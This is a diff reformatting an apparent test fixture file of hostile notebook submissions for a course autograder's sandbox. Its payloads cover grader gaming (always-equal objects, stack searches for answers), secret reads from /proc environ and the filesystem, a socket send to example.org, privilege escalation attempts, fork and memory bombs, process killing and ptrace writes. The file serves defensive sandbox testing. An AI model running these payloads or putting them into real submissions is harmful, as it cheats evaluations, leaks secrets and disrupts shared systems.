@@ -1,6 +1,8 @@
-"""Notebooks that try to cheat, to break out or to do damage, each with what it tries. None of them solves a question.
+"""Notebooks that try to cheat, to break out or to do damage, each with what it tries. None of them
+solves a question.
 
-`HONEST` solves the second question of the tiny assignment, so whoever uses it earns its 40 points and no more.
+`HONEST` solves the second question of the tiny assignment, so whoever uses it earns its 40 points
+and no more.
 """
 
 from dataclasses import dataclass
@@ -21,7 +23,9 @@ class Attack:
 
 
 def attack(name: str, tries: str, code: str, earns: float = 0.0) -> Attack:
-    """One cell of attack after the set-up and the wrong answer; an honest answer beside it where points are earned."""
+    """One cell of attack after the set-up and the wrong answer; an honest answer beside it where
+    points are earned.
+    """
     return Attack(name, tries, (SETUP, WRONG, HONEST if earns else "", code), earns)
 
 
@@ -126,27 +130,36 @@ FORGERIES = [
 
 OBJECTS = [
     answering(
-        "always_equal", "returns an object that equals everything", "return Same()",
+        "always_equal",
+        "returns an object that equals everything",
+        "return Same()",
         "class Same:\n    def __eq__(self, other): return True\n    def __float__(self): return 0.25\n"
         "    def __array__(self, *a, **k): import numpy; return numpy.array('full marks')",
     ),
     answering(
-        "tensor_subclass", "returns a tensor whose every operation says yes",
+        "tensor_subclass",
+        "returns a tensor whose every operation says yes",
         "return x.mean(1).as_subclass(Yes)",
         "class Yes(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None):\n"
         "        return True if 'eq' in f.__name__ or 'close' in f.__name__ else super().__torch_function__(f, types, args, kwargs or {})",
     ),
     answering(
-        "array_subclass", "returns a numpy array that compares as it likes", "return np.zeros(len(x)).view(Yes)",
+        "array_subclass",
+        "returns a numpy array that compares as it likes",
+        "return np.zeros(len(x)).view(Yes)",
         "import numpy as np\nclass Yes(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return True\n"
         "    def __array_function__(self, *a, **k): return True",
     ),
-    answering("endless_iterator", "returns an iterator without an end", "import itertools\nreturn itertools.count()"),
+    answering(
+        "endless_iterator", "returns an iterator without an end", "import itertools\nreturn itertools.count()"
+    ),
     answering("huge_answer", "returns a gigabyte", "return torch.zeros(2**27, dtype=torch.float64)"),
     answering("text_answer", "returns a script", "return '<script>alert(1)</script>'"),
     answering("complex_answer", "returns complex numbers", "return torch.fft.fft(x)[:, 0]"),
     answering(
-        "named_error", "raises an error whose name and text are a script", "raise Bad('<img src=x onerror=alert(1)>')",
+        "named_error",
+        "raises an error whose name and text are a script",
+        "raise Bad('<img src=x onerror=alert(1)>')",
         "Bad = type('<script>alert(1)</script>', (Exception,), {})",
     ),
     answering("recursion", "recurses until the stack ends", "return log_mean_exp(x)"),
@@ -154,20 +167,23 @@ OBJECTS = [
 
 SEARCHES = [
     answering(
-        "frames_searched", "looks for the expected numbers in its callers",
+        "frames_searched",
+        "looks for the expected numbers in its callers",
         "import sys\nframe = sys._getframe()\nwhile frame:\n"
         "    for value in frame.f_locals.values():\n"
         "        if isinstance(value, dict) and 'right' in value: return value['right']\n"
         "    frame = frame.f_back\nreturn x.mean(1)",
     ),
     answering(
-        "garbage_searched", "looks for a reference among all objects",
+        "garbage_searched",
+        "looks for a reference among all objects",
         "import gc\nfor thing in gc.get_objects():\n"
         "    if callable(thing) and getattr(thing, '__name__', '') in ('reference', 'solution'): return thing(x)\n"
         "return x.mean(1)",
     ),
     answering(
-        "files_searched", "looks for keys, other submissions and the gradebook",
+        "files_searched",
+        "looks for keys, other submissions and the gradebook",
         "import os\nfor where, _, names in os.walk('/'):\n"
         "    if where.startswith(('/proc', '/sys')): continue\n"
         "    for name in names:\n"
@@ -176,19 +192,22 @@ SEARCHES = [
         "return x.mean(1)",
     ),
     answering(
-        "environment_read", "looks for the secret in the environment of any process",
+        "environment_read",
+        "looks for the secret in the environment of any process",
         "import os, glob\nfound = str(os.environ)\nfor path in glob.glob('/proc/*/environ'):\n"
         "    try: found += open(path).read()\n    except OSError: pass\n"
         "if 'CANARY' in found: raise SystemError\nreturn x.mean(1)",
     ),
     answering(
-        "home_read", "lists homes and the folders of other users",
+        "home_read",
+        "lists homes and the folders of other users",
         "import os\nfor place in ('/root', '/home', os.path.expanduser('~'), '/mnt', '/var', '/srv'):\n"
         "    if os.path.isdir(place) and any('canary' in name for name in os.listdir(place)): raise SystemError\n"
         "return x.mean(1)",
     ),
     answering(
-        "keys_imported", "imports the grader and asks for the keys",
+        "keys_imported",
+        "imports the grader and asks for the keys",
         "try:\n    from course_lib.grading.assignment import Assignment\n    return Assignment.read('tiny').questions\n"
         "except ImportError:\n    return x.mean(1)",
     ),
@@ -196,75 +215,89 @@ SEARCHES = [
 
 DAMAGE = [
     attack(
-        "course_edited", "edits the course on disk for the next student",
+        "course_edited",
+        "edits the course on disk for the next student",
         "import course_lib.em\nfor path in (course_lib.em.__file__, torch.__file__):\n"
         "    try:\n        open(path, 'a').write('\\nraise SystemExit\\n')\n    except OSError:\n        pass",
     ),
     attack(
-        "runner_edited", "edits the runner and its task",
+        "runner_edited",
+        "edits the runner and its task",
         "import os\nfor path in ('/grading/runner.py', '/grading/task.json', '/grading/inputs.safetensors'):\n"
         "    for act in (lambda: os.chmod(path, 0o777), lambda: os.remove(path), lambda: open(path, 'w')):\n"
         "        try:\n            act()\n        except OSError:\n            pass",
     ),
     attack(
-        "network", "calls a server on this machine and a name outside",
+        "network",
+        "calls a server on this machine and a name outside",
         "import socket\nfor address in (('127.0.0.1', PORT), ('localhost', PORT), ('example.org', 80)):\n"
         "    try:\n        socket.create_connection(address, timeout=2).sendall(b'the inputs')\n    except OSError:\n        pass",
     ),
     attack(
-        "privileges", "asks for more rights",
+        "privileges",
+        "asks for more rights",
         "import os, subprocess\nfor act in (lambda: os.setuid(0), lambda: os.chroot('/tmp'), lambda: os.nice(-10)):\n"
         "    try:\n        act()\n        raise SystemExit('rights')\n    except (OSError, AttributeError):\n        pass\n"
         "for command in (['mount', '-t', 'tmpfs', 'x', '/tmp'], ['unshare', '-r', 'true'], ['su', '-c', 'true']):\n"
         "    try:\n        subprocess.run(command, timeout=5, capture_output=True)\n    except Exception:\n        pass",
     ),
     attack(
-        "fork_bomb", "starts processes without end",
+        "fork_bomb",
+        "starts processes without end",
         "import os\nfor _ in range(100_000):\n    try:\n        if os.fork() == 0:\n            while True:\n                try:\n                    os.fork()\n"
         "                except OSError:\n                    import time; time.sleep(1)\n    except OSError:\n        break",
     ),
     attack(
-        "memory_bomb", "takes all memory",
+        "memory_bomb",
+        "takes all memory",
         "hoard = []\nwhile True:\n    hoard.append(bytearray(10**8))",
     ),
     attack(
-        "memory_in_children", "takes memory in many processes",
+        "memory_in_children",
+        "takes memory in many processes",
         "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n        hoard = bytearray(3 * 10**8)\n        time.sleep(60)\n"
         "time.sleep(60)",
     ),
     attack(
-        "disk_filled", "fills the disk",
+        "disk_filled",
+        "fills the disk",
         "for number in range(10_000):\n    open(f'/tmp/{number}', 'wb').write(bytes(10**7))",
     ),
     attack(
-        "shared_memory_filled", "fills the shared memory",
+        "shared_memory_filled",
+        "fills the shared memory",
         "for number in range(10_000):\n    open(f'/dev/shm/{number}', 'wb').write(bytes(10**7))",
     ),
     attack("endless_loop", "never ends", "while True:\n    pass", 40.0),
     answering("endless_answer", "never answers", "while True:\n    pass"),
     attack(
-        "endless_stubborn", "catches the alarm and goes on",
+        "endless_stubborn",
+        "catches the alarm and goes on",
         "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        continue",
     ),
     attack(
-        "alarm_disarmed", "switches the alarm off and loops",
+        "alarm_disarmed",
+        "switches the alarm off and loops",
         "import signal\nfor which in (signal.SIGALRM, signal.SIGPROF):\n    signal.signal(which, signal.SIG_IGN)\n"
         "signal.setitimer(signal.ITIMER_REAL, 0)\nsignal.setitimer(signal.ITIMER_PROF, 0)\nwhile True:\n    pass",
     ),
     attack("endless_output", "prints without end", "while True:\n    print('full marks ' * 1000)", 40.0),
     attack("endless_sleep", "sleeps for a year", "import time\ntime.sleep(3e7)", 40.0),
     attack(
-        "threads_left", "leaves threads running",
+        "threads_left",
+        "leaves threads running",
         "import threading\nfor _ in range(20):\n    threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()",
     ),
     attack(
-        "children_left", "leaves processes behind that want to outlive the grader",
+        "children_left",
+        "leaves processes behind that want to outlive the grader",
         "import os, time\nfor _ in range(5):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork():\n            os._exit(0)\n"
         "        time.sleep(3600)\n        os._exit(0)",
         40.0,
     ),
     attack(
-        "signals", "kills everything that it can see",
+        "signals",
+        "kills everything that it can see",
         "import os, signal\nfor target in (os.getppid(), 1, -1):\n    try:\n        os.kill(target, signal.SIGKILL)\n    except OSError:\n        pass",
     ),
     attack("process_ended", "ends the process with success", "import os\nos._exit(0)"),
@@ -272,7 +305,8 @@ DAMAGE = [
     attack("interrupt", "raises KeyboardInterrupt", "raise KeyboardInterrupt", 40.0),
     attack("pipe_closed", "closes every pipe", "import os\nos.closerange(3, 256)"),
     attack(
-        "ptrace", "reads and writes the memory of other processes",
+        "ptrace",
+        "reads and writes the memory of other processes",
         "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor pid in (1, os.getppid()):\n    libc.ptrace(16, pid, 0, 0)\n"
         "    try:\n        open(f'/proc/{pid}/mem', 'r+b').write(b'x')\n    except OSError:\n        pass",
     ),
